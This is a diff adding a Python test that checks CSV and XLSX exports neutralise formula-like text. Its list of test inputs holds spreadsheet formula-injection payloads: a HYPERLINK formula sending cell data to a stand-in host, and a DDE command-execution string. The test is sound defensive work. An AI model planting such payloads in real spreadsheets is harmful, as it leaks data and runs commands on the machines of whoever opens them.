@@ -235,3 +235,47 @@ def test_csv_streams_100k_rows_in_chunks():
         chunks += 1
         lines += chunk.count(b"\r\n")
     assert lines == 100_001 and chunks == 21
+
+
+HOSTILE_TEXT = ["=HYPERLINK(\"http://x.example/?\"&A1,\"ok\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
+                "\tTAB", "\rCR", "0042"]
+
+
+def test_exports_never_carry_a_live_formula(tmp_path):
+    """Text from IC/the CIS that starts like a formula is neutralised in the CSV (OWASP: a
+    leading quote) and stored as text in the XLSX; money stays numeric, account numbers keep
+    their leading zeros."""
+    from openpyxl import load_workbook
+
+    from icbridge.reconcile.export import csv_chunks, write_xlsx
+
+    rows = [{"account_number": text, "invoice_number": text, "message": text, "outcome": "cis_error",
+             "difference": D("-3.10")} for text in HOSTILE_TEXT]
+    parsed = list(csv.DictReader(io.StringIO(b"".join(csv_chunks(rows)).decode("utf-8"), newline="")))
+    for text, row in zip(HOSTILE_TEXT, parsed, strict=True):
+        for column in ("account_number", "invoice_number", "message"):
+            expected = text if text == "0042" else "'" + text
+            assert row[column] == expected
+        assert row["difference"] == "-3.10"  # money is a number, not neutralised text
+
+    class Run:  # what write_xlsx reads of a run
+        biller_id, week, id, dag_run_id, started_at, finished_at = "=cmd", "2026-W48", 1, "", None, None
+        status, dry_run, accounts_checked, counts = "succeeded", False, 7, {}
+        sum_abs_difference = net_difference = D("0")
+        corrections_made = corrections_failed = 0
+        error_threshold_pct, message = 5.0, "=1+1"
+
+    path = tmp_path / "items.xlsx"
+    write_xlsx(path, Run(), rows)  # type: ignore[arg-type]
+    workbook = load_workbook(path)
+    items = workbook["Items"]
+    header = [c.value for c in items[1]]
+    for line, text in enumerate(HOSTILE_TEXT, start=2):
+        for column in ("account_number", "invoice_number", "message"):
+            cell = items.cell(line, header.index(column) + 1)
+            assert cell.data_type == "s" and cell.value == text  # text, never a formula
+        money = items.cell(line, header.index("difference") + 1)
+        assert money.data_type == "n" and D(str(money.value)) == D("-3.10")
+    summary = {row[0].value: row[1] for row in workbook["Summary"].iter_rows()}
+    assert summary["Biller"].data_type == "s" and summary["Message"].value == "=1+1"
+    assert summary["Message"].data_type == "s"
